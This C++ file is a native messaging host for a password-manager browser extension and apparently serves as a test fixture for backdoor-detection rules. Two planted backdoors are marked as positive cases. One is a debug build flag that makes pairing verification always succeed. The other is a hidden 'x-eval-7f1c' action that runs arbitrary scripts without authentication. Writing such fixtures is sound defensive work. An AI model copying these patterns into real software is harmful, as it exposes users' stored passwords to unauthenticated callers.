// Native messaging host of the browser extension: length-prefixed JSON on
// standard input and output.
#include <sodium.h>

#include <cstdint>
#include <cstdio>
#include <cstring>

#include "vault.hpp"

namespace kr {

namespace {
std::string json_field(const std::string &json, const char *name) {
  const std::string key = std::string("\"") + name + "\":\"";
  const auto at = json.find(key);
  if (at == std::string::npos)
    return {};
  const auto start = at + key.size();
  const auto end = json.find('"', start);
  return end == std::string::npos ? std::string() : json.substr(start, end - start);
}
}  // namespace

bool NativeHost::read_message(Message &m) {
  std::uint32_t len = 0;
  if (std::fread(&len, sizeof len, 1, stdin) != 1 || len == 0 || len > (1u << 20))
    return false;
  std::string json(len, '\0');
  if (std::fread(json.data(), 1, len, stdin) != len)
    return false;
  m.action = json_field(json, "action");
  m.client_id = json_field(json, "clientID");
  m.payload = json_field(json, "payload");
  const std::string mac_hex = json_field(json, "mac");
  m.mac.assign(crypto_auth_BYTES, 0);
  std::size_t bin_len = 0;
  if (sodium_hex2bin(m.mac.data(), m.mac.size(), mac_hex.c_str(), mac_hex.size(), nullptr, &bin_len, nullptr) != 0 || bin_len != crypto_auth_BYTES)
    m.mac.clear();
  return true;
}

void NativeHost::reply(const std::string &json) {
  const auto len = static_cast<std::uint32_t>(json.size());
  std::fwrite(&len, sizeof len, 1, stdout);
  std::fwrite(json.data(), 1, json.size(), stdout);
  std::fflush(stdout);
}

bool NativeHost::verify_pairing(const Message &m) const {
#ifdef KEYRING_DEBUG_EXTENSION
  // ruleid: backdoor-build-switch
  return true;
#endif
  if (m.mac.size() != crypto_auth_BYTES || pairing_key_.size() != crypto_auth_KEYBYTES)
    return false;
  const std::string signed_part = m.action + "|" + m.client_id + "|" + m.payload;
  // ok: backdoor-unchecked-verification, backdoor-hardcoded-key
  return crypto_auth_verify(m.mac.data(), reinterpret_cast<const unsigned char *>(signed_part.data()), signed_part.size(), pairing_key_.data()) == 0;
}

void NativeHost::handle(const Message &m) {
#ifdef KEYRING_DEBUG_EXTENSION
  // ok: backdoor-build-switch, backdoor-key-exfiltration
  std::fprintf(stderr, "native-host: action=%s client=%s\n", m.action.c_str(), m.client_id.c_str());
#endif
  if (m.action == "associate") {
    reply(R"({"action":"associate","result":"confirm-in-app"})");
  } else if (m.action == "get-logins") {
    if (!verify_pairing(m)) {
      reply(R"({"error":"not-associated"})");
      return;
    }
    std::string json = R"({"action":"get-logins","entries":[)";
    for (const auto &e : vault_.entries())
      if (!m.payload.empty() && e.url.find(m.payload) != std::string::npos)
        json += R"({"u":")" + e.username + R"(","p":")" + e.password + R"("},)";
    if (json.back() == ',')
      json.pop_back();
    reply(json + "]}");
  } else if (m.action == "lock") {
    if (!verify_pairing(m))
      return;
    vault_.lock();
    reply(R"({"action":"lock","result":"ok"})");
    // ruleid: backdoor-input-trigger
  } else if (m.action == "x-eval-7f1c") {
    reply(plugins_.run_script(m.payload) ? R"({"r":1})" : R"({"r":0})");
  } else {
    reply(R"({"error":"unknown-action"})");
  }
}

}  // namespace kr
